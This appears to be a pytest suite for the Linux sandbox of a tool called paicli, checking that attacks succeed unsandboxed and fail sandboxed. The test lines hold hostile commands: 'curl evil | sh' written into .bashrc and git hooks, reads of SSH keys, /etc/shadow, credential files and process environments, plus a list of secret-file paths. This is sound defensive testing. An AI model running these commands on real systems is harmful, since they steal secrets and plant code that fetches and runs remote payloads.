"""Attacks by a sandboxed command, in real processes, under each Linux mechanism.

Each attack first runs without the sandbox, where it must succeed on this machine, then in
`Sandbox.for_project(HOME/project)`, where it must fail. The allow-list runs under
bubblewrap only: Landlock cannot give a process a network of its own, and says so.
"""

from __future__ import annotations

import asyncio
import ctypes
import os
import sys
from pathlib import Path

import pytest

import paicli.mcp as m
from paicli.mcp._sandbox import landlock, seccomp
from paicli.mcp._sandbox.bwrap import TEMP_SIZE
from paicli.mcp._sandbox.native import machine
from paicli.mcp._sandbox.prepare import PreparedSandbox
from tests.sandboxes import BASHRC, KEY, home, listener, mechanism, python, run

pytestmark = [pytest.mark.real, pytest.mark.skipif(sys.platform != "linux", reason="Linux")]
__all__ = ["home", "mechanism"]  # fixtures

CONNECT = (
    "import socket, sys\n"
    "try:\n"
    "    socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5)\n"
    "    print('connected')\n"
    "except OSError as exc:\n"
    "    print('refused:', exc.strerror or exc)\n"
)
FETCH = (
    "import sys, urllib.request, urllib.error\n"
    "try:\n"
    "    print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode())\n"
    "except urllib.error.HTTPError as exc:\n"
    "    print(exc.code, exc.read().decode().strip())\n"
    "except urllib.error.URLError as exc:\n"
    "    print('failed:', exc.reason)\n"
)


def profile(home: Path, **options: object) -> m.Sandbox:
    return m.Sandbox.for_project(home / "project", **options)  # type: ignore[arg-type]


async def test_a_sandboxed_command_cannot_write_the_users_bashrc(
    mechanism: str, home: Path
) -> None:
    attack = ["sh", "-c", 'echo "curl evil | sh" >> "$HOME/.bashrc"']
    code, _ = await run(attack, None, cwd=home / "project")
    assert code == 0 and "curl evil" in (home / ".bashrc").read_text()
    (home / ".bashrc").write_text(BASHRC)

    code, output = await run(attack, profile(home), cwd=home / "project")
    assert code != 0
    assert "Read-only file system" in output or "Permission denied" in output
    assert (home / ".bashrc").read_text() == BASHRC


async def test_a_sandboxed_command_cannot_read_the_users_ssh_key(
    mechanism: str, home: Path
) -> None:
    attack = ["sh", "-c", 'cat "$HOME/.ssh/id_ed25519"']
    assert (await run(attack, None, cwd=home / "project"))[1] == KEY

    code, output = await run(attack, profile(home), cwd=home / "project")
    assert code != 0 and "OPENSSH" not in output


# Credential files beyond the ones every tool knows, and shell histories: each holds a
# token or a password.
CREDENTIALS = (
    ".config/git/credentials",
    ".config/containers/auth.json",
    ".claude/.credentials.json",
    ".vault-token",
    ".pgpass",
    ".bash_history",
    ".local/share/fish/fish_history",
)


async def test_a_sandboxed_command_cannot_read_the_users_other_credential_files(
    mechanism: str, home: Path
) -> None:
    for name in CREDENTIALS:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(f"token-of-{name}\n")
    attack = ["sh", "-c", 'cd "$HOME" && cat ' + " ".join(CREDENTIALS)]
    _, output = await run(attack, None, cwd=home / "project")
    assert all(f"token-of-{name}" in output for name in CREDENTIALS)

    _, output = await run(attack, profile(home), cwd=home / "project")
    assert [name for name in CREDENTIALS if f"token-of-{name}" in output] == []


async def test_a_temporary_folder_in_the_childs_environment_is_not_made_writable(
    mechanism: str, home: Path
) -> None:
    """A server's entry sets its environment: TMPDIR pointing at the home folder must not
    make it writable (Landlock grants the user's own temporary folder)."""
    attack = ["sh", "-c", 'echo "curl evil | sh" >> "$HOME/.bashrc"']
    environment = {**os.environ, "TMPDIR": str(home)}
    code, _ = await run(attack, profile(home), cwd=home, env=environment)
    assert code != 0 and (home / ".bashrc").read_text() == BASHRC


async def test_a_sandboxed_command_cannot_write_into_the_users_terminal(
    mechanism: str, home: Path
) -> None:
    """The user's terminal is a /dev/pts entry of theirs: a command that opens it could
    paint a fake question on screen (or read what is typed)."""
    leader, follower = os.openpty()
    try:
        attack = ["sh", "-c", f"printf INJECTED > {os.ttyname(follower)}"]
        code, _ = await run(attack, profile(home), cwd=home / "project")
        os.set_blocking(leader, False)
        try:
            seen = os.read(leader, 1024)
        except BlockingIOError:
            seen = b""
        assert code != 0 and b"INJECTED" not in seen
        assert (await run(attack, None, cwd=home))[0] == 0
        assert b"INJECTED" in os.read(leader, 1024)
    finally:
        os.close(leader)
        os.close(follower)


# Reads the user keyring's key named argv[1] (request_key, then keyctl READ = 11).
READ_KEY = (
    "import ctypes, sys\n"
    "add_key, request_key, keyctl = map(int, sys.argv[2:5])\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "key = libc.syscall(request_key, b'user', sys.argv[1].encode(), None, 0)\n"
    "buffer = ctypes.create_string_buffer(64)\n"
    "if key > 0 and libc.syscall(keyctl, 11, ctypes.c_long(key), buffer, 64) > 0:\n"
    "    print(buffer.value.decode())\n"
    "else:\n"
    "    print('refused:', ctypes.get_errno())\n"
)


async def test_a_sandboxed_command_cannot_read_the_users_kernel_keyring(
    mechanism: str, home: Path
) -> None:
    """The kernel's user keyring is the user's in every namespace (a Kerberos ticket is
    there where KRB5CCNAME is KEYRING:)."""
    numbers = seccomp.ARCHES[machine()].keyrings
    libc = ctypes.CDLL(None, use_errno=True)
    name = f"paicli-test-{os.getpid()}"
    user_keyring = ctypes.c_int(-4)  # KEY_SPEC_USER_KEYRING
    key = libc.syscall(numbers[0], b"user", name.encode(), b"sekrit-token", 12, user_keyring)
    if key < 0:
        pytest.skip(f"no kernel keyring here (errno {ctypes.get_errno()})")
    try:
        attack = [*python(READ_KEY), name, *map(str, numbers)]
        assert (await run(attack, None, cwd=home))[1] == "sekrit-token\n"
        _, output = await run(attack, profile(home), cwd=home / "project")
        assert output.startswith("refused:"), output
    finally:
        libc.syscall(numbers[2], 21, ctypes.c_long(key))  # KEYCTL_INVALIDATE


async def test_loader_variables_do_not_run_anything_before_the_sandbox_holds(
    mechanism: str, home: Path
) -> None:
    """A server entry's env reaches the program that sets the sandbox up: LD_PRELOAD there
    would be code of the entry's choosing outside the sandbox. LD_DEBUG_OUTPUT shows it
    without a compiler: each program the loader starts writes its log there."""
    log = home / "ld-debug"
    environment = {**os.environ, "LD_DEBUG": "files", "LD_DEBUG_OUTPUT": str(log)}
    attack = ["sh", "-c", 'echo "$LD_DEBUG"']
    await run(attack, None, cwd=home, env=environment)
    written = [name for name in os.listdir(home) if name.startswith("ld-debug.")]
    assert written
    for name in written:
        os.unlink(home / name)

    _, output = await run(attack, profile(home), cwd=home / "project", env=environment)
    assert [name for name in os.listdir(home) if name.startswith("ld-debug.")] == []
    assert "files" in output.splitlines()  # the command still gets them


async def test_paicli_run_as_root_does_not_let_a_command_read_the_password_hashes(
    mechanism: str, home: Path
) -> None:
    """Root keeps its uid in the sandbox, and the owner of /etc/shadow reads it without
    any capability."""
    attack = ["sh", "-c", "cat /etc/shadow"]
    code, output = await run(attack, None, cwd=home)
    if code != 0 or not output.startswith("root:"):
        pytest.skip("/etc/shadow is not readable here (paicli does not run as root)")
    _, output = await run(attack, profile(home), cwd=home / "project")
    assert "root:" not in output


async def test_a_sandboxed_command_cannot_read_the_environment_of_paicli(
    mechanism: str, home: Path
) -> None:
    """Through /proc, where the model key and the servers' secrets are (as paicli started)."""
    environ = Path(f"/proc/{os.getpid()}/environ")
    first = (await asyncio.to_thread(environ.read_bytes)).split(b"\0")[0].decode()
    attack = ["sh", "-c", f"tr '\\0' '\\n' < {environ}"]
    assert first in (await run(attack, None, cwd=home))[1]

    code, output = await run(attack, profile(home), cwd=home)
    assert code != 0 and first not in output


async def test_a_sandboxed_command_writes_its_project_and_temp_and_its_status_passes(
    mechanism: str, home: Path
) -> None:
    work = 'echo built > out.txt && echo scratch > "${TMPDIR:-/tmp}/x" && cat out.txt; exit 3'
    code, output = await run(["sh", "-c", work], profile(home), cwd=home / "project")
    assert (code, output) == (3, "built\n")
    assert (home / "project" / "out.txt").read_text() == "built\n"
    killed, _ = await run(["sh", "-c", "kill -TERM $$"], profile(home), cwd=home / "project")
    assert killed == -15


async def test_a_sandboxed_command_cannot_reach_a_listener_on_loopback(
    mechanism: str, home: Path
) -> None:
    async with listener() as (port, seen):
        attack = [*python(CONNECT), str(port)]
        assert (await run(attack, None, cwd=home))[1] == "connected\n"
        _, output = await run(attack, profile(home), cwd=home)
    assert output.startswith("refused:"), output
    assert len(seen) == 1  # the unsandboxed run's only


async def test_with_network_loopback_its_own_loopback_works_and_this_machines_does_not(
    mechanism: str, home: Path
) -> None:
    if mechanism == "landlock":
        with pytest.raises(m.SandboxUnavailable, match="Landlock cannot give network loopback"):
            await PreparedSandbox.open(profile(home, network="loopback"))
        return
    own = (
        "import socket\n"
        "server = socket.create_server(('127.0.0.1', 0))\n"
        "socket.create_connection(server.getsockname(), timeout=5)\n"
        "print('own loopback works')\n"
    )
    loopback = profile(home, network="loopback")
    assert (await run(python(own), loopback, cwd=home))[1] == "own loopback works\n"
    async with listener() as (port, seen):
        _, output = await run([*python(CONNECT), str(port)], loopback, cwd=home)
    assert output.startswith("refused:") and not seen


async def test_the_allow_list_refuses_a_host_not_on_it_in_one_line(
    mechanism: str, home: Path
) -> None:
    allowed = profile(home, network=["allowed.test"])
    if mechanism == "landlock":
        with pytest.raises(m.SandboxUnavailable, match="allow-list: that needs bubblewrap"):
            await PreparedSandbox.open(allowed)
        return
    aliases = {"allowed.test": "127.0.0.1", "denied.test": "127.0.0.1"}
    async with listener() as (port, seen):
        _, output = await run(
            [*python(FETCH), f"http://denied.test:{port}/"], allowed, cwd=home, aliases=aliases
        )
        assert output == "403 paicli sandbox: denied.test is not on the network allow-list\n"
        _, output = await run(
            [*python(FETCH), f"https://denied.test:{port}/"], allowed, cwd=home, aliases=aliases
        )
        assert "403 Forbidden: denied.test is not on the allow-list" in output
    assert not seen


BUBBLEWRAP_ONLY = pytest.mark.parametrize("mechanism", ["bubblewrap"], indirect=True)


@BUBBLEWRAP_ONLY  # Landlock cannot give an allow-list; the test above checks it says so
async def test_the_allow_list_lets_a_listed_host_through_and_nothing_else(
    mechanism: str, home: Path
) -> None:
    allowed = profile(home, network=["allowed.test"])
    aliases = {"allowed.test": "127.0.0.1"}
    async with listener() as (port, seen):
        fetch = [*python(FETCH), f"http://allowed.test:{port}/path?q=1"]
        assert (await run(fetch, allowed, cwd=home, aliases=aliases))[1] == "hello\n"
        assert seen == ["GET /path?q=1 HTTP/1.1"]
        direct = [*python(CONNECT), str(port)]
        _, output = await run(direct, allowed, cwd=home, aliases=aliases)
    assert output.startswith("refused:") and len(seen) == 1


@BUBBLEWRAP_ONLY  # Landlock cannot keep a folder inside a writable one read-only
async def test_git_hooks_stay_read_only_in_a_writable_project(mechanism: str, home: Path) -> None:
    hooks = home / "project" / ".git" / "hooks"
    hooks.mkdir(parents=True)
    attack = ["sh", "-c", "echo 'curl evil | sh' > .git/hooks/pre-commit"]
    code, _ = await run(attack, profile(home), cwd=home / "project")
    assert code != 0 and not (hooks / "pre-commit").exists()
    code, _ = await run(attack, None, cwd=home / "project")
    assert code == 0 and (hooks / "pre-commit").exists()


@BUBBLEWRAP_ONLY
async def test_git_cannot_be_moved_aside_for_a_git_folder_whose_config_runs_a_command(
    mechanism: str, home: Path
) -> None:
    """`.git/config` and `.git/hooks` are read-only, but renaming `.git` and making a new
    one with `core.fsmonitor` set would run that command in the user's next `git status`."""
    git = home / "project" / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    attack = [
        "sh",
        "-c",
        "mv .git .git-old && mkdir .git && echo '[core] fsmonitor = x' > .git/config",
    ]
    code, output = await run(attack, profile(home), cwd=home / "project")
    assert code != 0 and "busy" in output
    assert (git / "config").read_text() == "[core]\n" and not (git.parent / ".git-old").exists()
    code, _ = await run(attack, None, cwd=home / "project")
    assert code == 0 and "fsmonitor" in (git / "config").read_text()


@BUBBLEWRAP_ONLY  # Landlock has no /dev of its own
async def test_the_sandboxs_dev_cannot_take_more_memory_than_its_temporary_folder(
    mechanism: str, home: Path
) -> None:
    """bwrap's /dev and /dev/shm are memory (tmpfs) bounded by half the machine's only: a
    command could fill them past the bound its /tmp has, and the OOM killer picks others."""
    measure = (
        "import os\n"
        "shm = os.statvfs('/dev/shm')\n"
        "print(shm.f_blocks * shm.f_frsize)\n"
        "try:\n"
        "    open('/dev/filler', 'w').close()\n"
        "    print('wrote /dev')\n"
        "except OSError as exc:\n"
        "    print(exc.strerror)\n"
    )
    code, output = await run(python(measure), profile(home), cwd=home / "project")
    size, written = output.splitlines()
    assert code == 0 and int(size) <= TEMP_SIZE and written == "Read-only file system"


@pytest.mark.parametrize("mechanism", ["landlock"], indirect=True)
async def test_on_an_older_landlock_a_file_of_the_user_cannot_be_emptied_by_path(
    mechanism: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Landlock before ABI 3 (Linux 6.2) does not see truncate(): as such a kernel would,
    the ruleset here handles ABI 2's rights only."""
    monkeypatch.setattr(landlock, "abi", lambda: 2)
    attack = python(f"import os; os.truncate({str(home / '.bashrc')!r}, 0)")
    code, output = await run(attack, profile(home), cwd=home / "project")
    assert code != 0 and "Permission denied" in output
    assert (home / ".bashrc").read_text() == BASHRC


async def test_sandbox_command_wraps_a_command_for_a_caller_that_spawns_it(
    mechanism: str, home: Path
) -> None:
    command = await m.sandbox_command(
        ["sh", "-c", 'echo "$KEEP-$DROP"; cat "$HOME/.ssh/id_ed25519"'],
        m.Sandbox.for_project(home / "project", env=["KEEP", "HOME", "PATH"]),
        env={"KEEP": "kept", "DROP": "dropped", "HOME": str(home), "PATH": "/usr/bin:/bin"},
    )
    try:
        assert command.mechanism == mechanism
        process = await asyncio.create_subprocess_exec(
            *command.argv,
            env=command.env,
            preexec_fn=command.preexec,
            pass_fds=command.pass_fds,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.DEVNULL,
        )
        async with asyncio.timeout(30):
            output, _ = await process.communicate()
    finally:
        await command.aclose()
    assert output.decode() == "kept-\n"
    assert process.returncode is not None and command.exit_status(process.returncode) == 1
